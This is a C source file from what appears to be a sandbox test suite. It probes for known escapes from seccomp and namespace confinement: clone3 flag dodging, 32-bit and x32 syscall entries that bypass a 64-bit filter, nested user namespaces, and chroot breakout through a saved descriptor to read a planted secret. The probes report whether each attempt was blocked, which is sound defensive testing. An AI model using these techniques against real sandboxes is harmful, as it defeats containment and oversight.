/* ns.c - cases 4, 6, 7, 27: new namespaces, another instruction set, another root.
 *
 * What is made here is thrown away with the process that made it. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void case_clone3(struct outcome *o)
{
        struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
        long pid = syscall(SYS_clone3, &args, sizeof args);

        if (pid == 0)
                _exit(0);
        if (pid < 0) {
                out_blocked(o, errno, "clone3 makes no user namespace");
                return;
        }
        waitpid((pid_t)pid, NULL, 0);
        out_escaped(o, "clone3 made a child in a new user namespace");
}

/* int80(nr, a, b, c): the 32-bit entry, where call 359 is socket() and a 64-bit filter sees its own
 * call 359, which does not exist. */
static long int80(long nr, long a, long b, long c)
{
#ifdef __x86_64__
        long r;
        __asm__ volatile("int $0x80"
                         : "=a"(r)
                         : "0"(nr), "b"(a), "c"(b), "d"(c)
                         : "memory", "r8", "r9", "r10", "r11");
        return r;
#else
        (void)nr, (void)a, (void)b, (void)c;
        return -ENOSYS;
#endif
}

static int try_int80(void *arg)
{
        (void)arg;
        return int80(359, AF_NETLINK, SOCK_RAW, 16 /* generic */) >= 0 ||
                               int80(20, 0, 0, 0) == getpid()
                       ? 42
                       : 0;
}

static int try_x32(void *arg)
{
        (void)arg;
        return syscall(0x40000000 | SYS_getpid) == getpid() ? 42 : 0;
}

static void case_other_arch(struct outcome *o)
{
#ifndef __x86_64__
        out_na(o, "only x86-64 has these doors");
        return;
#endif
        int x32 = in_child(try_x32, NULL);
        int ia32 = in_child(try_int80, NULL);

        if (ia32 == 42)
                out_escaped(o, "a 32-bit call was carried out");
        if (x32 == 42)
                out_escaped(o, "an x32 call was carried out");
        if (ia32 == -SIGSYS)
                out_blocked_why(o, "SIGSYS", "the 32-bit entry kills the process");
        else if (ia32 == -SIGSEGV)
                out_na(o, "this kernel has no 32-bit entry");
        else
                out_blocked(o, ENOSYS, "the 32-bit entry answers nothing");
}

static int try_unshare(void *arg)
{
        if (unshare(CLONE_NEWUSER) < 0)
                return errno;
        *(bool *)arg = true;
        return 0;
}

/* A nested user namespace gives every capability inside it: from there the kernel's mount, network
 * and packet-filter code is in reach. Three ways in. */
static void case_nested_userns(struct outcome *o)
{
        bool dummy = false;
        int err = in_child(try_unshare, &dummy);

        if (err == 0)
                out_escaped(o, "unshare made a user namespace with all capabilities");
        long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0UL);
        if (pid == 0)
                _exit(0);
        if (pid > 0) {
                waitpid((pid_t)pid, NULL, 0);
                out_escaped(o, "clone made a user namespace with all capabilities");
        }
        int fd = open("/proc/1/ns/user", O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && setns(fd, CLONE_NEWUSER) == 0)
                out_escaped(o, "setns entered another user namespace");
        if (fd >= 0)
                close(fd);
        out_blocked(o, err > 0 ? err : EPERM, "no nested user namespace");
}

/* climb(saved_fd): walk up from a directory that is outside the new root, and look for the host. */
static bool climb(int saved_fd)
{
        const char *secret = planted("SECRET_FILE");
        char buf[512];

        if (fchdir(saved_fd) < 0)
                return false;
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        break;
        return secret && has_canary(buf, slurp(secret + 1, buf, sizeof buf));
}

static void case_chroot(struct outcome *o)
{
        char dir[] = "/tmp/attack-root-XXXXXX";
        int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        char *made = mkdtemp(dir);

        if (here >= 0 && climb(here))
                out_escaped(o, "walking up from the workspace reached the host's files");
        int tmp = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (chroot(made ? dir : ".") == 0) {
                if (made && tmp >= 0) /* by descriptor: its name is out of reach now */
                        unlinkat(tmp, dir + sizeof "/tmp/" - 1, AT_REMOVEDIR);
                if (here >= 0 && climb(here))
                        out_escaped(o, "a saved descriptor led out of the new root to the host");
                out_escaped(o, "chroot was carried out");
        }
        int err = errno;
        if (syscall(SYS_pivot_root, ".", ".") == 0)
                out_escaped(o, "pivot_root was carried out");
        else if (errno == EINVAL || errno == EBUSY)
                out_escaped(o, "pivot_root reached the mount code");
        if (made)
                rmdir(dir);
        out_blocked(o, err, "no other root");
}

const struct attack_case ns_cases[] = {
        {"4", "clone3 dodges a filter on clone's flags", EXEC, REAL, 0, case_clone3,
         "seccomp+userns-limits", "seccomp+userns-limits"},
        {"6", "32-bit and x32 entry past a 64-bit filter", REACH, REAL, 0, case_other_arch,
         "seccomp", "seccomp"},
        {"7", "nested user namespace with all capabilities", EXEC, REAL, 0, case_nested_userns,
         "seccomp+userns-limits", "seccomp+userns-limits"},
        {"27", "chroot, pivot_root and .. out of the root", READ, SURFACE, 0, case_chroot,
         "seccomp+caps", "seccomp+caps"},
        {0},
};
